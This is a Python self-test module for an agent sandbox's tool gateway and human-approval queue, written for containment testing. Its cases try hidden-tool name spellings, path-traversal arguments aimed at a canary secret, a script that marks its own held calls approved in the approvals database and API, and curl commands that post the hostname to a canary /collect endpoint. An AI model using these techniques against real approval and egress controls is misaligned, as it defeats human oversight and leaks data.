"""Tools and approvals: the tool gateway decides every call (a hidden tool stays hidden, an
argument outside its constraint is refused), a held action is answered only by a human outside
the sandbox, and a held egress request does not leave before that answer.

The tool server is a small stdio MCP server (standard library only, the 2025 handshake) run by
the gateway in a sandbox of its own; it can read the canary file (granted to *it*), so any way
around the gateway's decisions shows up as the canary in the agent's output.
"""

from __future__ import annotations

import json
import os
import textwrap

from agentvm.selftest.framework import CANARY_HOST, Env, Verdict, case

SERVER = r'''
import json, sys
TOOLS = {
    "read_file": {"type": "object", "properties": {"path": {"type": "string"}}, "required": ["path"]},
    "exfil": {"type": "object", "properties": {}},
    "write_note": {"type": "object", "properties": {"text": {"type": "string"}}},
    "ADMIN_EXFIL": {"type": "object", "properties": {}},
}
def answer(i, result=None, error=None):
    msg = {"jsonrpc": "2.0", "id": i}
    msg.update({"error": error} if error else {"result": result})
    sys.stdout.write(json.dumps(msg) + "\n"); sys.stdout.flush()
for line in sys.stdin:
    try:
        m = json.loads(line)
    except ValueError:
        continue
    i, meth, p = m.get("id"), m.get("method"), m.get("params") or {}
    if i is None:
        continue
    if meth == "initialize":
        answer(i, {"protocolVersion": p.get("protocolVersion", "2025-06-18"), "capabilities": {"tools": {}},
                   "serverInfo": {"name": "selftest-tools", "version": "1"}})
    elif meth == "tools/list":
        answer(i, {"tools": [{"name": n, "inputSchema": s} for n, s in TOOLS.items()]})
    elif meth == "tools/call":
        n, a = p.get("name"), p.get("arguments") or {}
        if n == "read_file":
            try:
                text = open(a.get("path", "")).read()
            except OSError as e:
                text = "cannot read: " + e.strerror
        elif n == "exfil":
            text = "HIDDEN-TOOL-RAN " + open("/canaries/secret.txt").read()
        elif n == "write_note":
            text = "NOTE-WRITTEN"
        elif n == "ADMIN_EXFIL":
            text = "DENIED-TOOL-RAN " + open("/canaries/secret.txt").read()
        else:
            answer(i, error={"code": -32602, "message": "unknown tool"}); continue
        answer(i, {"content": [{"type": "text", "text": text}], "isError": False})
    elif meth == "ping":
        answer(i, {})
    else:
        answer(i, error={"code": -32601, "message": "Method not found"})
'''

# the agent's MCP client: the agentvm-mcp shim (stdio), JSON-RPC by hand; prints one line per call
CLIENT = r'''
import json, subprocess, sys, threading
calls = json.loads(sys.argv[1])
p = subprocess.Popen(["agentvm-mcp"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, bufsize=1)
def rpc(i, method, params):
    p.stdin.write(json.dumps({"jsonrpc": "2.0", "id": i, "method": method, "params": params}) + "\n"); p.stdin.flush()
    return json.loads(p.stdout.readline())
rpc(0, "initialize", {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "attack", "version": "1"}})
for k, (name, args) in enumerate(calls, 1):
    r = rpc(k, "tools/call", {"name": name, "arguments": args})
    print("CALL", name, json.dumps(r), flush=True)
p.stdin.close()
'''


def _setup(env: Env) -> tuple[str, str]:
    d = env.root / "tools"
    if not d.exists():
        d.mkdir(mode=0o755)
        (d / "server.py").write_text(SERVER)
        (d / "client.py").write_text(CLIENT)
        (d / "public").mkdir(mode=0o755)
        (d / "public" / "readme.txt").write_text("public file\n")
        for f in d.rglob("*"):
            os.chmod(f, 0o755 if f.is_dir() else 0o644)
    return str(d), str(env.canary_dir)


def _tools(env: Env, *, approve: tuple[str, ...] = (), deny: tuple[str, ...] = ()):
    """The tool policy: read_file (only under /srv/public), write_note (approve), exfil hidden;
    with ``deny``: every tool allowed but those (the deny glob case); weakened
    (permissive-tools): every tool, no constraints, no denies."""
    from agentvm.tools.policy import ArgRule, ServerPolicy, ToolPolicy

    d, canaries = _setup(env)
    spec = {"apiVersion": "agentvm/v1", "kind": "Agent", "metadata": {"name": "selftest-tool-t"},
            "spec": {"command": ["/usr/bin/python3", "/srv/server.py"], "riskTier": "L4", "substrate": env.substrate,
                     "workspace": {"enabled": False}, "limits": {"timeout": 0},
                     "mounts": [{"host": d, "path": "/srv", "mode": "ro"},
                                {"host": canaries, "path": "/canaries", "mode": "ro"}]}}
    permissive = "permissive-tools" in env.weakens
    sp = ServerPolicy(
        name="t", kind="local", command=("/usr/bin/python3", "/srv/server.py"),
        allow=("*",) if permissive or deny else ("read_file",), approve=() if permissive else approve,
        deny=() if permissive else deny,
        arguments=() if permissive else (("read_file", (ArgRule(name="path", path="/srv/public", required=True),)),),
        risk=(("*", "read"),), timeout=20.0, sandbox_spec=json.dumps(spec))
    return ToolPolicy(servers=(sp,), tier_approval=(), approval_timeout=3.0)


def _run(env: Env, calls: list, *, script: str = "", approve=(), deny=(), timeout: float = 60) -> tuple[list, str]:
    tools = _tools(env, approve=approve, deny=deny)
    d, _ = _setup(env)
    from agentvm.policy import MountGrant

    cmd = script or f"/usr/bin/python3 /mnt/tools/client.py '{json.dumps(calls)}'"
    o = env.sandbox(cmd, tools=tools, approval_timeout=3.0, timeout=timeout,
                    mounts=(MountGrant(d, "/mnt/tools", False),))
    results = []
    for line in o.stdout.splitlines():
        if line.startswith("CALL "):
            name, _, doc = line[5:].partition(" ")
            try:
                results.append((name, json.loads(doc)))
            except ValueError:
                results.append((name, {"raw": doc}))
    return results, o.out


_CONTROL = ["t__read_file", {"path": "/srv/public/readme.txt"}]  # an allowed call: the test can fail


def _run_controlled(env: Env, calls: list, **kw) -> tuple[list, str, Verdict | None]:
    """``calls``, then the allowed control call: (the calls' results, the output, an error
    verdict when a call was not made or the control did not work - the case proves nothing)."""
    results, out = _run(env, calls + [_CONTROL], **kw)
    if len(results) != len(calls) + 1:
        return results, out, Verdict.error(f"the client did not make every call: {out[-400:]}")
    control = results.pop()
    if "public file" not in _text(control[1]):
        return results, out, Verdict.error(f"the allowed call did not work, so the test proves nothing: {control}")
    return results, out, None


def _text(r: dict) -> str:
    res = r.get("result") or {}
    return "".join(c.get("text", "") for c in res.get("content", []) if isinstance(c, dict))


@case("tools.hidden-tool", "tools",
      "call a tool the agent file does not allow (hidden from tools/list), under several spellings",
      weakened_by="permissive-tools")
def _(env: Env) -> Verdict:
    names = ["t__exfil", "exfil", "t__exfil ", "T__exfil", "t__Exfil", "t__t__exfil", "t__read_file/../exfil"]
    results, out, unproven = _run_controlled(env, [[n, {}] for n in names])
    if unproven:
        return unproven
    ran = [n for n, r in results if "HIDDEN-TOOL-RAN" in _text(r)]
    if ran or env.canary_seen(out):
        return Verdict.escaped(f"the hidden tool ran via {ran or 'some call'}")
    refused = [n for n, r in results if "error" in r]
    if len(refused) != len(names):
        return Verdict.error(f"a call neither ran the tool nor was refused: {results}")
    return Verdict.contained(f"{len(names)} spellings refused: " + "; ".join(
        f"{n!r}: {str(r['error'].get('message'))[-60:]}" for n, r in results[:3]))


@case("tools.deny-spelling", "tools",
      "call a tool that a deny glob names in another case (deny: [\"*admin*\"], the server's tool ADMIN_EXFIL)",
      weakened_by="permissive-tools")
def _(env: Env) -> Verdict:
    names = ["t__ADMIN_EXFIL", "T__ADMIN_EXFIL", "\uff54__ADMIN_EXFIL"]  # (the last: a fullwidth server name)
    results, out, unproven = _run_controlled(env, [[n, {}] for n in names], deny=("*admin*",))
    if unproven:
        return unproven
    ran = [n for n, r in results if "DENIED-TOOL-RAN" in _text(r)]
    if ran or env.canary_seen(out):
        return Verdict.escaped(f"the denied tool ran via {ran or 'some call'}")
    refused = [n for n, r in results if "tools:deny:t:*admin*" in str((r.get("error") or {}).get("message"))]
    if len(refused) != len(names):
        return Verdict.error(f"a call was neither run nor refused by the deny rule: {results}")
    return Verdict.contained(f"{len(names)} spellings refused by the deny rule *admin*")


@case("tools.argument-smuggling", "tools",
      "read a file outside the allowed folder through an allowed tool (.., //, encoded, a list, a missing argument)",
      weakened_by="permissive-tools")
def _(env: Env) -> Verdict:
    tries = [{"path": "/srv/public/../../canaries/secret.txt"}, {"path": "/canaries/secret.txt"},
             {"path": "//canaries/secret.txt"}, {"path": "/srv/public/%2e%2e/%2e%2e/canaries/secret.txt"},
             {"path": ["/canaries/secret.txt"]}, {"path": "/srv/publicX/../../canaries/secret.txt"},
             {"path": "/srv/public/readme.txt", "path ": "/canaries/secret.txt"}, {}]
    results, out = _run(env, [["t__read_file", a] for a in tries] + [_CONTROL])
    if len(results) != len(tries) + 1:
        return Verdict.error(f"the client did not make every call: {out[-400:]}")
    if env.canary_seen(out):
        return Verdict.escaped("the canary file came back through read_file: " + "; ".join(
            json.dumps(a) for a, (_, r) in zip(tries, results) if env.canary in json.dumps(r)))
    if "public file" not in _text(results[-1][1]):
        return Verdict.error(f"the allowed call did not work, so the test proves nothing: {results[-1]}")
    return Verdict.contained(f"{len(tries)} smuggled arguments refused or harmless; the allowed path works")


_SELF_APPROVE = r'''
import glob, json, os, sqlite3, subprocess, sys, threading, time, urllib.request
call = subprocess.Popen(["/usr/bin/python3", "/mnt/tools/client.py", json.dumps([["t__write_note", {"text": "x"}]])],
                        stdout=subprocess.PIPE, text=True)
tried = {}
end = time.time() + 2.5
while time.time() < end:
    for db in set(glob.glob("/mnt/*/approvals.db") + glob.glob("/var/lib/agentvm/approvals/approvals.db")
                  + glob.glob("/**/approvals.db", recursive=False)):
        try:
            c = sqlite3.connect(db, timeout=1)
            n = c.execute("UPDATE approvals SET state='approved', by='cli:root', answered=? WHERE state='pending'",
                          (time.time(),)).rowcount
            c.commit()
            tried[db] = f"updated {n}"
        except Exception as e:
            tried[db] = f"{type(e).__name__}: {e}"
    port = os.environ.get("HTTP_PROXY", "").rsplit(":", 1)[-1]
    for path in ("/v1/approvals", "/mcp/../v1/approvals"):
        try:
            urllib.request.build_opener(urllib.request.ProxyHandler({})).open(
                urllib.request.Request(f"http://127.0.0.1:{port}{path}", data=b"{}", method="POST"), timeout=2)
            tried[path] = "answered"
        except Exception as e:
            tried[path] = type(e).__name__
    for sock in glob.glob("/run/agentvm*/*.sock") + glob.glob("/var/lib/agentvm/run/*.sock"):
        tried[sock] = "visible"
    time.sleep(0.2)
out = call.communicate(timeout=30)[0]
print(out, end="")
print("TRIED", json.dumps(tried))
'''


@case("tools.self-approve", "tools",
      "approve the agent's own held tool call from inside the sandbox (the queue's database, the API, the daemon)",
      weakened_by="writable-approvals")
def _(env: Env) -> Verdict:
    results, out = _run(env, [], script=f"/usr/bin/python3 -c {_shell(_SELF_APPROVE)}", approve=("write_note",))
    tried = next((ln[6:] for ln in out.splitlines() if ln.startswith("TRIED ")), "")
    if len(results) != 1:
        return Verdict.error(f"the held call did not come back: {out[-500:]}")
    name, r = results[0]
    if "NOTE-WRITTEN" in _text(r):
        return Verdict.escaped(f"the held call ran without a human: tried {tried[:300]}")
    msg = str((r.get("error") or {}).get("message"))
    if "approval:timeout" not in msg:
        return Verdict.error(f"the held call was refused for another reason: {msg[:200]}")
    return Verdict.contained(f"the call waited and timed out (denied); tried {tried[:300]}")


def _shell(code: str) -> str:
    import shlex

    return shlex.quote(textwrap.dedent(code))


@case("tools.held-egress", "tools",
      "get a request that an `action: ask` rule holds out before anyone answers (retries, other forms)",
      weakened_by="permissive-gate")
def _(env: Env) -> Verdict:
    from agentvm.gate.policy import Rule

    port = env.sink.port
    ask = (Rule(id="ask-exfil", host=CANARY_HOST, ports=(port,), ask=True),)
    script = textwrap.dedent(f"""
        for i in 1 2; do curl -s -m 8 -d "$(cat /etc/hostname) held-$i" http://{CANARY_HOST}:{port}/collect; echo " rc=$?"; done
        curl -s -m 8 -X PUT --data-binary held-put http://{CANARY_HOST}:{port}/; echo " rc=$?"
        curl -s -m 8 -p -x "$HTTP_PROXY" http://{CANARY_HOST}:{port}/ -d held-tunnel; echo " rc=$?"
        """)
    mark = env.sink.mark()
    o = env.run_policy(env.policy(["/bin/sh", "-c", script], ask=ask, approval_timeout=1.0, timeout=60,
                                  credentials=False))
    got = [d for _, d in env.sink.since(mark) if b"held" in d]
    if got:
        return Verdict.escaped(f"the sink received a held request without an answer: {got[0][:120]!r}")
    held = [e for e in o.egress if e.get("rule") == "approval:pending"]
    timeouts = [e for e in o.egress if e.get("rule") in ("approval:timeout", "approval:unavailable")]
    if not held or not timeouts:
        return Verdict.error(f"the requests were not held (the case proves nothing): {o.out[-400:]}")
    return Verdict.contained(f"{len(held)} requests held, {len(timeouts)} denied at the timeout; the sink saw nothing")
